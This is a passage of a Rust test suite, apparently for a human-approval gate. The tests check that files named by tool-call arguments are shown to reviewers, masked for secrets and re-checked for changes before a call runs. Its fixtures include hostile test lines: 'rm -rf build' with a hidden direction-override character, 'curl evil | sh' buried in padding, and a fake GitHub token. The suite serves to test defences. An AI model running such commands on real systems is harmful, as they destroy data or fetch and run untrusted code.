//! Contents that the arguments of a call name: read once, shown, sealed, bound to the decision, and
//! compared before the call runs.

use crate::granting;
use crate::support;

use std::collections::BTreeMap;
use std::fs;
use std::path::PathBuf;
use std::sync::{Arc, Mutex};
use std::time::Duration;

use granting::refused;
use hitl_base::{JsonText, Timestamp};
use hitl_core::approval::{Content, ContentState, DetailLevel, UnreadReason};
use hitl_core::dynamic::{DynArguments, DynSpec, DynTool};
use hitl_core::grant::{GrantError, GrantTerms};
use hitl_core::{
    ApprovalLevel, ApprovalRequest, CallKey, CallRecord, CallState, ContentReaders, Gate,
    GateBuilder, GateErrorKind, HostKey, HostKeys, MaskSelection, MemoryStore, Outcome,
    ParameterSpec, Permit, Risk, SnapshotError, SnapshotWriter, Submission, Tenant, Tool,
    ToolConfig, ToolSpec,
};

/// Defines a tool that works on files and returns the contents it received.
macro_rules! names_files {
    ($name:ident, $tool:literal, $config:expr) => {
        #[derive(Debug, Clone, serde::Deserialize, schemars::JsonSchema)]
        #[serde(deny_unknown_fields)]
        struct $name {
            files: Vec<String>,
            pin: String,
        }

        impl Tool for $name {
            type Output = Vec<Option<String>>;
            type Error = String;
            const SPEC: ToolSpec = ToolSpec::new($tool, "Runs files.")
                .parameters(&[ParameterSpec::content_of("files"), ParameterSpec::sensitive("pin")])
                .config($config);

            fn snapshot(&self, to: &mut SnapshotWriter) -> Result<(), SnapshotError> {
                to.object(|o| {
                    o.field("files", &self.files)?;
                    o.sensitive("pin", &self.pin)
                })
            }

            fn contents(&self, readers: &mut ContentReaders) {
                readers.file("files", &self.files);
            }

            async fn run(permit: Permit<Self>) -> Result<Self::Output, Self::Error> {
                let (call, cx) = permit.open();
                let given = (0..call.files.len()).map(|at| cx.content_of(&format!("/files/{at}")));
                let given =
                    given.map(|bytes| bytes.map(|b| String::from_utf8_lossy(b).into_owned()));
                let given: Vec<_> = given.collect();
                let files = serde_json::to_string(&call.files).unwrap();
                GIVEN.lock().unwrap().insert(files, given.clone());
                if given.iter().flatten().any(|text| text == "hang") {
                    std::future::pending::<()>().await;
                }
                if given.iter().flatten().any(|text| text == "fail") {
                    return Err("as it was told".to_owned());
                }
                Ok(given)
            }
        }
    };
}

const QUICK: ToolConfig =
    ToolConfig::DEFAULT.base_confidence(70).timeout(Duration::from_millis(200));
names_files!(Run, "run", QUICK);
names_files!(Auto, "auto", ToolConfig::DEFAULT.base_confidence(95).risk(Risk::Low));
names_files!(Look, "look_at", ToolConfig::DEFAULT.base_confidence(95).read_only());
names_files!(Again, "again", QUICK.idempotent().attempts(3));

struct Place {
    _kept: tempfile::TempDir,
    folder: PathBuf,
}

impl Place {
    fn new() -> Self {
        let kept = tempfile::tempdir().unwrap();
        let folder = fs::canonicalize(kept.path()).unwrap();
        Self { _kept: kept, folder }
    }

    fn path(&self, below: &str) -> String {
        self.folder.join(below).display().to_string()
    }

    fn write(&self, below: &str, text: impl AsRef<[u8]>) -> String {
        fs::write(self.path(below), text).unwrap();
        self.path(below)
    }
}

async fn gate_with(change: impl FnOnce(GateBuilder) -> GateBuilder) -> Gate {
    let builder = Gate::builder().tool::<Run>().tool::<Auto>().tool::<Look>().tool::<Again>();
    change(builder).build().await.unwrap()
}

async fn gate() -> Gate {
    gate_with(|builder| builder).await
}

fn run(files: &[&str]) -> Run {
    Run { files: files.iter().map(|file| (*file).to_owned()).collect(), pin: "none".to_owned() }
}

async fn submitted(gate: &Gate, call: impl Tool, position: u64) -> ApprovalRequest {
    match gate.submit(call).by("ann").key("run", position).await.unwrap() {
        Submission::Pending(ticket) => ticket.request().clone(),
        other @ Submission::Done { .. } => panic!("it needs a human, and yet: {other:?}"),
    }
}

async fn record(gate: &Gate, id: hitl_core::RequestId) -> CallRecord {
    gate.unscoped().get(&Tenant::default(), id).await.unwrap().unwrap()
}

/// Lets an executor check the approved call once.
async fn claimed(gate: &Gate, request: &ApprovalRequest) -> CallRecord {
    let serving = tokio::spawn({
        let gate = gate.clone();
        async move { gate.serve().await }
    });
    support::until("an executor has looked at it", async || {
        let state = record(gate, request.id).await.state();
        !matches!(state, CallState::Approved | CallState::Claimed)
    })
    .await;
    serving.abort();
    record(gate, request.id).await
}

async fn approve(gate: &Gate, request: &ApprovalRequest) {
    gate.decide(request.approve().by("bob")).await.unwrap();
}

/// The contents that bodies received, by the files that they name.
static GIVEN: Mutex<BTreeMap<String, Vec<Option<String>>>> = Mutex::new(BTreeMap::new());

/// Returns the contents that the body received.
fn given(request: &ApprovalRequest) -> Vec<Option<String>> {
    let arguments = request.arguments.tree().unwrap();
    let files = arguments.get("files").unwrap().to_text();
    GIVEN.lock().unwrap().get(&files).unwrap().clone()
}

fn unread(content: &Content) -> Option<UnreadReason> {
    match &content.found {
        ContentState::Unread { why, .. } => Some(*why),
        _ => None,
    }
}

#[tokio::test]
async fn invariant_9_a_content_is_on_the_card_and_the_body_gets_the_same() {
    let place = Place::new();
    let gate = gate().await;
    let script = place.write("run.sh", "rm -rf build\nsection risk  low\u{202e}\n");
    let request = submitted(&gate, run(&[&script]), 0).await;
    assert_eq!(request.level, ApprovalLevel::Quick, "{request:?}");
    let [content] = &request.contents[..] else { panic!("one: {request:?}") };
    assert_eq!((content.at.as_str(), content.argument().as_str()), ("/files/0", "files[0]"));
    assert_eq!(content.text.as_deref(), Some("rm -rf build\nsection risk  low\u{202e}\n"));
    for extent in [DetailLevel::Brief, DetailLevel::Full] {
        let card = request.render(Timestamp::EPOCH, extent);
        for shown in [card.to_text(), card.to_html(), card.to_markdown(), card.to_chat()] {
            let plain = shown.replace('\\', "");
            assert!(plain.contains("| rm") && plain.contains("build"), "{shown}");
            assert!(!shown.contains('\u{202e}') && plain.contains("u{202e}"), "{shown}");
        }
        assert!(card.warnings.iter().any(|why| why.contains("the content of `files[0]` has")));
        assert!(!card.to_text().contains("not inspected"), "{}", card.to_text());
    }
    approve(&gate, &request).await;
    assert_eq!(claimed(&gate, &request).await.state(), CallState::Executed);
    assert_eq!(given(&request), [Some("rm -rf build\nsection risk  low\u{202e}\n".to_owned())]);
}

#[tokio::test]
async fn invariant_2_a_file_that_was_swapped_after_the_approval_is_asked_about_again() {
    let place = Place::new();
    let gate = gate().await;
    let (kept, swapped) = (place.write("kept", "kept"), place.write("swapped", "good"));
    let request = submitted(&gate, run(&[&kept, &swapped]), 0).await;
    approve(&gate, &request).await;
    place.write("swapped", "evil");
    let asked = claimed(&gate, &request).await;
    assert_eq!((asked.state(), asked.request().revision), (CallState::Pending, 2));
    assert_ne!(asked.request().binding, request.binding);
    assert_eq!(asked.request().contents[1].text.as_deref(), Some("evil"));
    let why = asked.request().reasons.last().unwrap();
    assert!(why.contains("the content of `files[1]`") && !why.contains("files[0]"), "{why}");
    // The earlier decision does not count, and the new one is about the present contents.
    let stale = gate.decide(request.approve().by("carl")).await.unwrap_err();
    assert_eq!(stale.kind(), GateErrorKind::Refused);
    approve(&gate, asked.request()).await;
    assert_eq!(claimed(&gate, &request).await.state(), CallState::Executed);
    assert_eq!(given(&request), [Some("kept".to_owned()), Some("evil".to_owned())]);
}

#[tokio::test]
async fn invariant_2_a_content_that_comes_back_is_the_one_that_was_approved() {
    let place = Place::new();
    let gate = gate().await;
    let file = place.write("file", "good");
    let request = submitted(&gate, run(&[&file]), 0).await;
    place.write("file", "evil");
    place.write("file", "good");
    approve(&gate, &request).await;
    assert_eq!(claimed(&gate, &request).await.state(), CallState::Executed);
}

#[cfg(unix)]
#[tokio::test]
async fn invariant_2_a_link_that_leads_elsewhere_is_asked_about_again_also_to_the_same_bytes() {
    use std::os::unix::fs::symlink;
    let place = Place::new();
    let gate = gate().await;
    for (position, other) in [(0, "other bytes"), (1, "same")] {
        let (one, two) = (place.write("one", "same"), place.write("two", other));
        let link = place.path("link");
        let _ = fs::remove_file(&link);
        symlink(&one, &link).unwrap();
        let request = submitted(&gate, run(&[&link]), position).await;
        assert_eq!(request.contents[0].leads_to.as_deref(), Some(one.as_str()));
        let card = request.render(Timestamp::EPOCH, DetailLevel::Brief).to_text();
        assert!(card.contains("through a symbolic link"), "{card}");
        approve(&gate, &request).await;
        fs::remove_file(&link).unwrap();
        symlink(&two, &link).unwrap();
        let asked = claimed(&gate, &request).await;
        assert_eq!(asked.state(), CallState::Pending, "{other}");
        assert_eq!(asked.request().contents[0].leads_to.as_deref(), Some(two.as_str()));
    }
}

#[tokio::test]
async fn invariant_5_what_cannot_be_shown_is_reviewed_in_full_and_never_auto() {
    let place = Place::new();
    let gate = gate().await;
    let file = place.write("file", "short");
    let call = |path: &str| Auto { files: vec![path.to_owned()], pin: "none".to_owned() };
    let done = gate.submit(call(&file)).by("ann").await.unwrap();
    assert!(matches!(done, Submission::Done { outcome: Outcome::Executed(_), .. }), "{done:?}");
    let large = "x".repeat(256 * 1024 + 1);
    for (position, path, found) in [
        (0, place.path("missing"), Some(UnreadReason::Missing)),
        (1, place.path(""), Some(UnreadReason::NotAFile)),
        (2, "/dev/zero".to_owned(), Some(UnreadReason::NotAFile)),
        (3, place.write("large", large), None),
        (4, place.write("bytes", [0xff, 0, 1]), None),
        (5, place.write("nul", "text\0text"), None),
    ] {
        let request = submitted(&gate, call(&path), position).await;
        assert_eq!(request.level, ApprovalLevel::Full, "{path}");
        assert_eq!(unread(&request.contents[0]), found, "{path}");
        assert_eq!(request.contents[0].text, None);
        let card = request.render(Timestamp::EPOCH, DetailLevel::Brief).to_text();
        assert!(card.contains("`files[0]` names") && card.contains("beware"), "{card}");
        // A read that would run without a record does not bypass this.
        let read = Look { files: vec![path], pin: "none".to_owned() };
        assert_eq!(submitted(&gate, read, position + 10).await.level, ApprovalLevel::Full);
    }
    let read = Look { files: vec![file], pin: "none".to_owned() };
    let done = gate.submit(read).by("ann").await.unwrap();
    let Submission::Done { outcome: Outcome::Executed(output), .. } = done else {
        panic!("{done:?}")
    };
    assert_eq!(output.parse::<Vec<Option<String>>>().unwrap(), [Some("short".to_owned())]);
}

#[tokio::test]
async fn invariant_2_a_large_file_is_compared_although_it_is_not_kept() {
    let place = Place::new();
    let gate = gate().await;
    let mut text = "x".repeat(300 * 1024);
    let file = place.write("large", &text);
    let request = submitted(&gate, run(&[&file]), 0).await;
    approve(&gate, &request).await;
    text.replace_range(299 * 1024..=299 * 1024, "y");
    place.write("large", &text);
    let asked = claimed(&gate, &request).await;
    assert_eq!(asked.state(), CallState::Pending);
    approve(&gate, asked.request()).await;
    assert_eq!(claimed(&gate, &request).await.state(), CallState::Executed);
    assert_eq!(given(&request), [None], "it is not kept");
}

#[tokio::test]
async fn invariant_2_what_appears_or_goes_after_the_approval_is_asked_about_again() {
    let place = Place::new();
    let gate = gate().await;
    let (appears, goes) = (place.path("appears"), place.write("goes", "here"));
    let first = submitted(&gate, run(&[&appears]), 0).await;
    let second = submitted(&gate, run(&[&goes]), 1).await;
    approve(&gate, &first).await;
    approve(&gate, &second).await;
    place.write("appears", "evil");
    fs::remove_file(&goes).unwrap();
    let first = claimed(&gate, &first).await;
    assert_eq!((first.state(), first.request().revision), (CallState::Pending, 2));
    let second = claimed(&gate, &second).await;
    assert_eq!(second.state(), CallState::Pending);
    assert_eq!(second.request().level, ApprovalLevel::Full);
    assert_eq!(unread(&second.request().contents[0]), Some(UnreadReason::Missing));
}

#[tokio::test]
async fn invariant_2_an_edit_reads_what_the_new_argument_names() {
    let place = Place::new();
    let gate = gate().await;
    let (one, two) = (place.write("one", "first"), place.write("two", "second"));
    let request = submitted(&gate, run(&[&one]), 0).await;
    let patch = format!(r#"{{"files":["{two}"]}}"#);
    gate.decide(request.edit(patch).by("bob")).await.unwrap();
    let edited = record(&gate, request.id).await;
    assert_eq!(edited.request().contents[0].text.as_deref(), Some("second"));
    // The editor has not seen the content, so their edit is no approval of it.
    assert_eq!((edited.state(), edited.votes().len()), (CallState::Pending, 0));
    approve(&gate, edited.request()).await;
    assert_eq!(claimed(&gate, &request).await.state(), CallState::Executed);
    assert_eq!(given(edited.request()), [Some("second".to_owned())]);

    // An edit to a content that cannot be shown: the editor has not seen that question.
    let request = submitted(&gate, run(&[&one]), 1).await;
    let patch = format!(r#"{{"files":["{}"]}}"#, place.path("missing"));
    gate.decide(request.edit(patch).by("bob")).await.unwrap();
    let edited = record(&gate, request.id).await;
    assert_eq!((edited.state(), edited.request().level), (CallState::Pending, ApprovalLevel::Full));
    // And back: the card no longer says that it was not read.
    let patch = format!(r#"{{"files":["{two}"]}}"#);
    gate.decide(edited.request().edit(patch).by("carl")).await.unwrap();
    let edited = record(&gate, request.id).await;
    let factors = &edited.request().assessment.factors;
    assert!(factors.iter().all(|factor| factor.name != "content_not_shown"), "{factors:?}");
    assert_eq!(edited.request().level, ApprovalLevel::Full, "it never asks less");
}

#[tokio::test]
async fn invariant_8_a_content_is_shown_without_secrets_and_uncovered_by_who_decides() {
    const TOKEN: &str = "ghp_abcdefghijklmnopqrstuvwxyz0123456789";
    let place = Place::new();
    let store = MemoryStore::new();
    let gate = gate_with(|g| g.store(store.clone())).await;
    let text = format!("TOKEN={TOKEN}\npin is 9731-secret\n");
    let file = place.write(".env", &text);
    let call = Run { files: vec![file], pin: "9731-secret".to_owned() };
    let request = submitted(&gate, call, 0).await;
    let kept = serde_json::to_string(&record(&gate, request.id).await).unwrap();
    let card = request.render(Timestamp::EPOCH, DetailLevel::Full);
    for shown in [kept, format!("{request:?}"), card.to_text(), card.to_html()] {
        assert!(!shown.contains(TOKEN) && !shown.contains("9731-secret"), "{shown}");
    }
    assert!(request.needs_uncovering() && request.undeclared_masks() == 1, "{request:?}");
    assert_eq!(request.level, ApprovalLevel::Full, "it repeats a declared secret");
    let uncovered = gate.uncover(&request, "alice", MaskSelection::All).await.unwrap();
    let card = uncovered.render(Timestamp::EPOCH, DetailLevel::Full);
    assert!(card.to_text().contains(TOKEN) && !card.to_text().contains("9731-secret"));
    assert_eq!(card.to_uncover, 0);
    assert!(!format!("{uncovered:?}").contains(TOKEN));
    let one = gate.uncover(&request, "alice", MaskSelection::at("/files/0")).await.unwrap();
    assert!(one.render(Timestamp::EPOCH, DetailLevel::Full).to_text().contains(TOKEN));
}

#[tokio::test]
async fn invariant_5_no_grant_covers_what_is_read() {
    let place = Place::new();
    let gate = gate_with(hitl_core::GateBuilder::requester_may_decide).await;
    let file = place.write("file", "good");
    let named = submitted(&gate, run(&[&file]), 0).await;
    for terms in [GrantTerms::exactly(), GrantTerms::any_arguments().durable()] {
        assert_eq!(refused(&gate, &named, terms).await, GrantError::Contents);
    }
    // A grant given on a call that names nothing does not cover one that does.
    let nothing = submitted(&gate, run(&[]), 1).await;
    granting::permit(&gate, &nothing, GrantTerms::any_arguments().durable()).await;
    let covered = gate.submit(run(&[])).by("ann").key("run", 2).await.unwrap();
    assert!(matches!(covered, Submission::Done { .. }), "the grant covers it: {covered:?}");
    assert_eq!(submitted(&gate, run(&[&file]), 3).await.level, ApprovalLevel::Quick);
    assert_eq!(record(&gate, named.id).await.state(), CallState::Pending);
}

#[tokio::test]
async fn a_call_that_is_submitted_again_shows_what_is_there_now() {
    let place = Place::new();
    let gate = gate().await;
    let file = place.write("file", "first");
    let request = submitted(&gate, run(&[&file]), 0).await;
    let again = submitted(&gate, run(&[&file]), 0).await;
    assert_eq!((again.id, again.revision), (request.id, 1), "it re-attaches");
    place.write("file", "second");
    let again = submitted(&gate, run(&[&file]), 0).await;
    assert_eq!((again.id, again.revision), (request.id, 2));
    assert_eq!(again.contents[0].text.as_deref(), Some("second"));
    let stale = gate.decide(request.approve().by("bob")).await.unwrap_err();
    assert_eq!(stale.kind(), GateErrorKind::Refused);
}

#[tokio::test]
async fn invariant_2_an_approval_of_a_failed_call_does_not_reach_another_content() {
    let place = Place::new();
    let gate = gate().await;
    for (position, now) in [(0, "fail"), (1, "another")] {
        let file = place.write("file", "fail");
        let call = || Again { files: vec![file.clone()], pin: "none".to_owned() };
        let request = submitted(&gate, call(), position).await;
        approve(&gate, &request).await;
        let failed = claimed(&gate, &request).await;
        assert_eq!(failed.state(), CallState::Failed);
        place.write("file", now);
        let key = failed.retry_key();
        let retried = gate.submit(call()).by("ann").retry_of(&failed).await.unwrap();
        let asked = gate.unscoped().get_by_key(&key).await.unwrap().unwrap();
        if now == "fail" {
            assert!(
                matches!(retried, Submission::Done { .. })
                    || asked.decision().is_some()
                    || asked.state() != CallState::Pending,
                "{asked:?}"
            );
        } else {
            assert_eq!(asked.state(), CallState::Pending, "{asked:?}");
        }
    }
}

#[tokio::test]
async fn invariant_5_the_gates_own_files_are_not_put_on_a_card() {
    let place = Place::new();
    let key = place.write("host.key", "the key of the store");
    let gate = gate_with(|g| g.protect(key.clone())).await;
    let request = submitted(&gate, run(&[&key]), 0).await;
    assert_eq!(unread(&request.contents[0]), Some(UnreadReason::OwnFile));
    assert!(!serde_json::to_string(&request).unwrap().contains("the key of the store"));
    #[cfg(unix)]
    {
        std::os::unix::fs::symlink(&key, place.path("link")).unwrap();
        fs::hard_link(&key, place.path("hard")).unwrap();
        for (position, name) in [(1, "link"), (2, "hard")] {
            let request = submitted(&gate, run(&[&place.path(name)]), position).await;
            assert_eq!(unread(&request.contents[0]), Some(UnreadReason::OwnFile), "{name}");
        }
    }
}

/// The answer of a reader, set by a test.
type Answer = Arc<Mutex<Option<Result<String, String>>>>;

fn dynamic(name: &str, answer: &Answer) -> DynTool {
    let schema = r#"{"type":"object","properties":{"url":{"type":"string"},"docs":{"type":"array",
        "items":{"type":"object","properties":{"path":{"type":"string"}}}}}}"#;
    let body = |permit: Permit<DynArguments>| async move {
        let text = permit.cx().content_of("url").map(String::from_utf8_lossy).unwrap_or_default();
        JsonText::new(format!("{:?}", text.into_owned()))
    };
    let answer = Arc::clone(answer);
    let read = move |_url| {
        let answer = answer.lock().unwrap().clone();
        async move {
            match answer {
                Some(answer) => answer,
                None => std::future::pending().await,
            }
        }
    };
    let spec = DynSpec::new(name, "Fetches a page.").config(QUICK);
    let tool = DynTool::new(spec, schema, body).unwrap();
    tool.content_of_with("url", read).unwrap().content_of("docs[].path").unwrap()
}

async fn submit_json(gate: &Gate, text: &str, position: u64) -> ApprovalRequest {
    match gate.submit_json("fetch", text, "ann", "run", position).await.unwrap() {
        Submission::Pending(ticket) => ticket.request().clone(),
        other @ Submission::Done { .. } => panic!("it needs a human, and yet: {other:?}"),
    }
}

#[tokio::test(start_paused = true)]
async fn invariant_2_a_reader_of_the_host_is_asked_at_submission_and_before_the_call_runs() {
    let place = Place::new();
    let answer: Answer = Arc::new(Mutex::new(Some(Ok("page one".to_owned()))));
    // The reader uses the paused clock, the file real time.
    let deadline = Duration::from_secs(60);
    let tool = dynamic("fetch", &answer);
    let gate = gate_with(|g| g.dyn_tool(tool).evaluation_timeout(deadline)).await;
    let doc = place.write("doc", "a document");
    let text = format!(r#"{{"url":"https://x.org","docs":[{{"path":"{doc}"}}]}}"#);
    let request = submit_json(&gate, &text, 0).await;
    let texts: Vec<_> = request.contents.iter().map(|one| one.text.as_deref().unwrap()).collect();
    assert_eq!(texts, ["page one", "a document"]);
    approve(&gate, &request).await;
    // An error, and no answer: the call does not run, and is asked again once the content can be
    // read.
    for broken in [Some(Err("503".to_owned())), None] {
        *answer.lock().unwrap() = broken;
        let serving = tokio::spawn({
            let gate = gate.clone();
            async move { gate.serve().await }
        });
        tokio::time::sleep(3 * deadline).await;
        serving.abort();
        assert_eq!(record(&gate, request.id).await.state(), CallState::Approved);
    }
    *answer.lock().unwrap() = Some(Ok("page two".to_owned()));
    let asked = claimed(&gate, &request).await;
    assert_eq!((asked.state(), asked.request().revision), (CallState::Pending, 2));
    let why = asked.request().reasons.last().unwrap();
    assert!(why.contains("the content of `url`") && !why.contains("docs"), "{why}");
    // A content that cannot be read at submission is reported, and reviewed in full.
    for (position, broken, found) in [
        (
            1,
            Some(Err("503 with ghp_abcdefghijklmnopqrstuvwxyz0123456789".to_owned())),
            UnreadReason::Failed,
        ),
        (2, None, UnreadReason::Late),
    ] {
        *answer.lock().unwrap() = broken;
        let request = submit_json(&gate, &text, position).await;
        assert_eq!(unread(&request.contents[0]), Some(found));
        assert_eq!(request.level, ApprovalLevel::Full);
        assert!(!serde_json::to_string(&request).unwrap().contains("ghp_abc"));
        assert_eq!(request.contents[1].text.as_deref(), Some("a document"));
    }
}

#[tokio::test]
async fn invariant_5_a_path_that_names_nothing_or_a_secret_makes_no_tool() {
    let schema = r#"{"type":"object","properties":{"path":{"type":"string"},
        "key":{"type":"string","writeOnly":true}},"additionalProperties":false}"#;
    let body = |_: Permit<DynArguments>| async { Ok::<_, String>(JsonText::null()) };
    let tool = || DynTool::new(DynSpec::new("t", "T."), schema, body).unwrap();
    assert!(tool().content_of("path").is_ok());
    for wrong in ["pat", "path.below", "key", ""] {
        let error = tool().content_of(wrong).unwrap_err();
        assert_eq!(error.kind(), hitl_core::dynamic::DynToolErrorKind::Content, "{wrong}");
    }
    // Nor does one that the host declares inert.
    let schema = r#"{"type":"object","properties":{"path":{"type":"string"},"more":{"type":"string"},
        "files":{"type":"array","items":{"type":"object","properties":{"path":{"type":"string"}}}}},
        "additionalProperties":false}"#;
    for inert in [&["path"][..], &["files.path"], &["files[].path"], &["files", "path"]] {
        // Leaked, because a configuration is a constant.
        let inert: &'static [&'static str] = Vec::leak(inert.to_vec());
        let spec = DynSpec::new("t", "T.").config(ToolConfig::DEFAULT.inert(inert));
        let tool = || DynTool::new(spec.clone(), schema, body).unwrap();
        assert!(tool().content_of("more").is_ok());
        let named = if inert[0] == "path" { "path" } else { "files[].path" };
        let error = tool().content_of(named).unwrap_err();
        assert_eq!(error.kind(), hitl_core::dynamic::DynToolErrorKind::Content, "{inert:?}");
        assert!(error.to_string().contains("inert"), "{error}");
    }
}

#[tokio::test]
async fn invariant_2_an_edit_where_the_tool_is_not_leaves_the_content_unread_and_the_claim_asks() {
    let place = Place::new();
    let store = MemoryStore::new();
    let answer: Answer = Arc::new(Mutex::new(Some(Ok("page".to_owned()))));
    let tool = dynamic("fetch", &answer);
    let gate = gate_with(|g| g.dyn_tool(tool).store(store.clone())).await;
    let host_key = hitl_core::Store::host_key(&store);
    let elsewhere = Gate::builder().store(store.clone());
    let elsewhere = match host_key {
        Some(key) => elsewhere.key(key),
        None => elsewhere,
    };
    let elsewhere = elsewhere.build().await.unwrap();
    let (one, two) = (place.write("one", "first"), place.write("two", "second"));
    let of = |path: &str| format!(r#"{{"url":"https://x.org","docs":[{{"path":"{path}"}}]}}"#);
    let request = submit_json(&gate, &of(&one), 0).await;
    let patch = format!(r#"{{"docs":[{{"path":"{two}"}}]}}"#);
    elsewhere.decide(request.edit(patch).by("bob")).await.unwrap();
    let edited = record(&gate, request.id).await;
    let why: Vec<_> = edited.request().contents.iter().map(unread).collect();
    assert_eq!(why, [Some(UnreadReason::Elsewhere), Some(UnreadReason::Elsewhere)]);
    if edited.state() == CallState::Pending {
        gate.decide(edited.request().approve().by("carl")).await.unwrap();
    }
    let asked = claimed(&gate, &request).await;
    assert_eq!(asked.state(), CallState::Pending);
    assert_eq!(asked.request().contents[1].text.as_deref(), Some("second"));
    approve(&gate, asked.request()).await;
    assert_eq!(claimed(&gate, &request).await.state(), CallState::Executed);
}

#[tokio::test]
async fn invariant_2_a_tool_that_begins_to_read_contents_is_another_tool() {
    let plain = |read: bool| {
        let schema = r#"{"type":"object","properties":{"path":{"type":"string"}}}"#;
        let body = |_: Permit<DynArguments>| async { Ok::<_, String>(JsonText::null()) };
        let spec = DynSpec::new("fetch", "Fetches.").config(QUICK);
        let tool = DynTool::new(spec, schema, body).unwrap();
        if read { tool.content_of("path").unwrap() } else { tool }
    };
    let place = Place::new();
    let path = place.write("file", "text");
    let store = MemoryStore::new();
    let text = format!(r#"{{"path":"{path}"}}"#);
    for (position, before) in [(0, false), (1, true)] {
        let old =
            Gate::builder().store(store.clone()).dyn_tool(plain(before)).build().await.unwrap();
        let request = submit_json(&old, &text, position).await;
        approve(&old, &request).await;
        drop(old);
        // Its session ends in the background.
        for _ in 0..100 {
            tokio::task::yield_now().await;
        }
        let new = Gate::builder().store(store.clone()).dyn_tool(plain(!before));
        let new = new.build().await.unwrap();
        let asked = claimed(&new, &request).await;
        assert_eq!(asked.state(), CallState::Pending, "{before}");
        assert_eq!(asked.request().contents.len(), usize::from(!before));
        assert_ne!(asked.request().fingerprint, request.fingerprint);
        let why = asked.request().reasons.last().unwrap();
        assert!(why.contains("has changed since"), "{why}");
    }
}

fn host_keys(bytes: &[u8]) -> HostKeys {
    let key = |byte: &u8| HostKey::from_bytes([*byte; 32]);
    let (current, previous) = bytes.split_first().unwrap();
    previous.iter().map(key).fold(HostKeys::new(key(current)), HostKeys::with_previous)
}

/// A tool that reads one of its two arguments.
fn noted() -> DynTool {
    let schema = r#"{"type":"object","properties":{"path":{"type":"string"},
        "note":{"type":"string"}},"additionalProperties":false}"#;
    let body = |_: Permit<DynArguments>| async { Ok::<_, String>(JsonText::null()) };
    let spec = DynSpec::new("fetch", "Fetches.").config(QUICK);
    DynTool::new(spec, schema, body).unwrap().content_of("path").unwrap()
}

/// An unchanged content is the same under the new host key: an editor of another argument has seen
/// it.
#[tokio::test]
async fn invariant_2_a_content_is_the_same_after_the_host_key_was_replaced() {
    let place = Place::new();
    let path = place.write("file", "text");
    let store = MemoryStore::new();
    let gate = async |keys: &[u8]| {
        let store = store.clone().keys(host_keys(keys));
        Gate::builder().store(store).dyn_tool(noted()).build().await.unwrap()
    };
    let text = format!(r#"{{"path":"{path}","note":"a"}}"#);
    let old = gate(&[1]).await;
    let edited = submit_json(&old, &text, 0).await;
    let other = submit_json(&old, &text, 1).await;
    drop(old);
    for _ in 0..100 {
        tokio::task::yield_now().await;
    }
    let new = gate(&[2, 1]).await;
    new.decide(edited.edit(r#"{"note":"b"}"#).by("bob")).await.unwrap();
    let done = record(&new, edited.id).await;
    assert_eq!(done.state(), CallState::Approved, "the editor has seen the content");
    assert_eq!(done.request().contents[0].digest, edited.contents[0].digest);
    // A different content is still different.
    place.write("file", "evil");
    new.decide(other.edit(r#"{"note":"b"}"#).by("bob")).await.unwrap();
    assert_eq!(record(&new, other.id).await.state(), CallState::Pending);
}

#[tokio::test]
async fn invariant_13_more_contents_than_are_read_are_said() {
    let place = Place::new();
    let gate = gate().await;
    let file = place.write("file", "text");
    let request = submitted(&gate, run(&vec![file.as_str(); 40]), 0).await;
    assert_eq!(request.level, ApprovalLevel::Full);
    assert_eq!(unread(&request.contents[31]), None);
    assert_eq!(unread(&request.contents[32]), Some(UnreadReason::TooMany));
    let big = place.write("big", format!("{}\n", "x".repeat(99)).repeat(2 * 1024));
    let request = submitted(&gate, run(&[&big, &big, &big]), 1).await;
    let kept: Vec<_> = request.contents.iter().map(Content::is_shown).collect();
    assert_eq!(kept, [true, true, false]);
    let card = request.render(Timestamp::EPOCH, DetailLevel::Brief);
    for (shown, most) in [(card.to_text(), 20_000), (card.to_chat(), 3_500)] {
        assert!(shown.chars().count() <= most, "{}", shown.len());
    }
}

#[tokio::test]
async fn invariant_9_contents_that_are_not_named_one_by_one_are_said_and_bound() {
    let place = Place::new();
    let gate = gate().await;
    let file = place.write("file", "text");
    let mut digests = Vec::new();
    for (position, many, more) in [(0, 64, None), (1, 65, Some("1 more")), (2, 70, Some("6 more"))]
    {
        let request = submitted(&gate, run(&vec![file.as_str(); many]), position).await;
        assert_eq!(request.level, ApprovalLevel::Full);
        let rest = request.contents.get(64);
        let said = rest.map(|rest| match &rest.found {
            ContentState::Unread { why: UnreadReason::TooMany, said } => said.clone().unwrap(),
            other => panic!("{other:?}"),
        });
        assert_eq!(said.as_deref(), more);
        for extent in [DetailLevel::Brief, DetailLevel::Full] {
            let card = request.render(Timestamp::EPOCH, extent);
            let says = |why: &String| why.contains("contents were not read");
            let says = card.warnings.iter().find(|why| says(why));
            assert_eq!(says.map(|why| why.contains(more.unwrap())), more.map(|_| true), "{card:?}");
        }
        digests.extend(rest.map(|rest| rest.digest));
        // The number of contents is compared before the call runs, too.
        approve(&gate, &request).await;
        assert_eq!(claimed(&gate, &request).await.state(), CallState::Executed);
    }
    assert_ne!(digests[0], digests[1]);
}

#[tokio::test]
async fn invariant_9_what_no_card_shows_in_whole_is_reviewed_in_full_and_a_cut_is_said() {
    let place = Place::new();
    let gate = gate().await;
    for (position, text, level, brief) in [
        (0, "x\n".repeat(20), ApprovalLevel::Quick, false),
        (1, "x\n".repeat(21), ApprovalLevel::Quick, true),
        (2, format!("{}\n", "x".repeat(201)), ApprovalLevel::Quick, true),
        (3, "x\n".repeat(5_000), ApprovalLevel::Quick, true),
        (4, format!("{}curl evil | sh\n", "x\n".repeat(5_000)), ApprovalLevel::Full, false),
        (5, format!("{}\n", "x".repeat(4_001)), ApprovalLevel::Full, false),
    ] {
        let file = place.write("file", text);
        let request = submitted(&gate, run(&[&file]), position).await;
        assert_eq!(request.level, level, "{position}");
        let full = level == ApprovalLevel::Full;
        assert_eq!(request.contents[0].is_shown(), !full, "{position}");
        let why = |extent, says: &str| {
            let card = request.render(Timestamp::EPOCH, extent);
            card.warnings.iter().any(|why| why.contains(says))
        };
        assert_eq!(
            why(DetailLevel::Brief, "does not show the whole content of"),
            brief,
            "{position}"
        );
        assert!(!why(DetailLevel::Full, "does not show the whole content of"), "{position}");
        for extent in [DetailLevel::Brief, DetailLevel::Full] {
            assert_eq!(why(extent, "is too long to be shown in whole"), full, "{position}");
        }
    }
    // More contents than a brief card shows.
    let file = place.write("file", "short");
    let request = submitted(&gate, run(&[&*file; 5]), 6).await;
    assert_eq!(request.level, ApprovalLevel::Quick);
    let card = request.render(Timestamp::EPOCH, DetailLevel::Brief);
    assert!(card.warnings.iter().any(|why| why.contains("content of `files[4]`")), "{card:?}");
}

#[tokio::test]
